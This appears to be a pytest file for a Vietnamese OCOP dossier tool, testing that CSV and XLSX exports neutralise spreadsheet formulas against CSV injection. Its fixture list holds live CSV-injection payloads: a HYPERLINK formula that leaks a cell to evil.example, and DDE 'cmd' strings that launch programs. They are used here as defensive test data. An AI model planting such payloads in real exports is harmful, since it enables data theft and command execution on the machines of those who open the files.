"""Spreadsheet exports never carry a formula, and an exported dossier list imports back.

A product named ``=HYPERLINK(…)`` is text to OCOP but a formula to Excel or LibreOffice, run on
the officer's machine when the file is opened (OWASP "CSV injection"). Every export — ``dossier
list``, ``audit export``, ``report progress`` — writes such text with a leading ``'``, keeps
numbers as numbers, and types XLSX text cells as strings.
"""

from __future__ import annotations

import csv
from pathlib import Path

import pytest
from conftest import Workspace, write_config
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from ocop_workflow.exports import neutralise, restore

T0 = "2026-03-02T09:00:00+07:00"
LATER = "2026-06-01T09:00:00+07:00"
PRODUCER = "HTX Cà phê Ia Le"
HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Cà phê")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "'=already quoted",
]


@pytest.fixture
def ws(tmp_path: Path, sqlite_url: str) -> Workspace:
    write_config(tmp_path, extra="[targets.2026]\nnew_products = 5\n")
    ws = Workspace(tmp_path, sqlite_url)
    ws.run("init", check=True)
    for i, product in enumerate([*HOSTILE, "Mật ong hoa cà phê"], start=1):
        ws.run(
            "dossier",
            "register",
            "--product",
            product,
            "--producer",
            PRODUCER,
            "--commune",
            "Ia Le",
            "--id",
            f"OCOP-X-{i}",
            user="lan",
            now=T0,
            check=True,
        )
    ws.run(
        "dossier",
        "advance",
        "OCOP-X-6",
        "reject",
        "--reason",
        "=1+1 trùng ý tưởng",
        user="lan",
        now=T0,
        check=True,
    )
    return ws


def csv_cells(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return list(csv.reader(handle))


def assert_no_formula_in_csv(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert not cell or cell[0] not in "=+-@\t\r", cell


def assert_no_formula_in_xlsx(path: Path) -> list[tuple[object, str]]:
    book = load_workbook(path)  # not data_only: a formula would show as data_type "f"
    cells = [
        (c.value, c.data_type)
        for sheet in book.worksheets
        for r in sheet.iter_rows()
        for c in r
        if c.value is not None
    ]
    for value, kind in cells:
        assert kind != "f", value
        if isinstance(value, str):
            assert kind == "s" and value[0] not in "=+-@\t\r", value
    return cells


def test_dossier_list_csv_and_xlsx_write_formula_text_as_text(ws: Workspace) -> None:
    ws.run("dossier", "list", "--format", "csv", "-o", "list.csv", now=T0, check=True)
    rows = csv_cells(ws.root / "list.csv")
    assert_no_formula_in_csv(rows)
    products = [r[rows[0].index("product")] for r in rows[1:]]
    assert set(products) >= {"'" + p for p in HOSTILE}
    ws.run("dossier", "list", "--format", "xlsx", "-o", "list.xlsx", now=T0, check=True)
    cells = assert_no_formula_in_xlsx(ws.root / "list.xlsx")
    assert ("'" + HOSTILE[0], "s") in cells
    assert (1, "n") in cells  # the version column is a number, not text


def test_audit_export_csv_neutralises_reasons_and_names(ws: Workspace) -> None:
    ws.run("audit", "export", "--format", "csv", "-o", "audit.csv", check=True)
    rows = csv_cells(ws.root / "audit.csv")
    assert_no_formula_in_csv(rows)
    reasons = [r[rows[0].index("reason")] for r in rows[1:]]
    assert "'=1+1 trùng ý tưởng" in reasons


def test_report_progress_xlsx_and_csv_hold_no_formula(ws: Workspace) -> None:
    ws.run(
        "report",
        "progress",
        "--year",
        "2026",
        "--format",
        "xlsx",
        "-o",
        "r.xlsx",
        now=LATER,
        check=True,
    )
    cells = assert_no_formula_in_xlsx(ws.root / "r.xlsx")
    assert ("'" + HOSTILE[0], "s") in cells  # an overdue dossier's product
    ws.run(
        "report",
        "progress",
        "--year",
        "2026",
        "--format",
        "csv",
        "-o",
        "r.csv",
        now=LATER,
        check=True,
    )
    assert_no_formula_in_csv(csv_cells(ws.root / "r.csv"))


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_an_exported_dossier_list_imports_back_as_it_was(
    fmt: str, ws: Workspace, tmp_path: Path
) -> None:
    ws.run("dossier", "list", "--format", fmt, "-o", f"list.{fmt}", now=T0, check=True)
    other = tmp_path / "other"
    other.mkdir()
    write_config(other)
    fresh = Workspace(other, f"sqlite:///{other / 'ocop.db'}")
    fresh.run("init", check=True)
    result = fresh.run("import", str(ws.root / f"list.{fmt}"), user="records", now=LATER)
    assert result.code == 0, result
    before = {d["id"]: d for d in ws.run("dossier", "list", "--json", now=T0).json()}
    after = {d["id"]: d for d in fresh.run("dossier", "list", "--json", now=LATER).json()}
    assert before.keys() == after.keys()
    for key, dossier in before.items():
        for column in ("product", "producer", "commune", "state", "workflow"):
            assert after[key][column] == dossier[column], (key, column)


@given(st.text())
def test_restore_undoes_neutralise_exactly(text: str) -> None:
    out = neutralise(text)
    assert restore(out) == text
    assert not out or out[0] not in "=+-@\t\r"


def test_numbers_are_not_neutralised() -> None:
    assert neutralise(-5) == -5 and neutralise(-0.5) == -0.5
    assert neutralise("\t=1") == "'\t=1" and neutralise("\r@x") == "'\r@x"
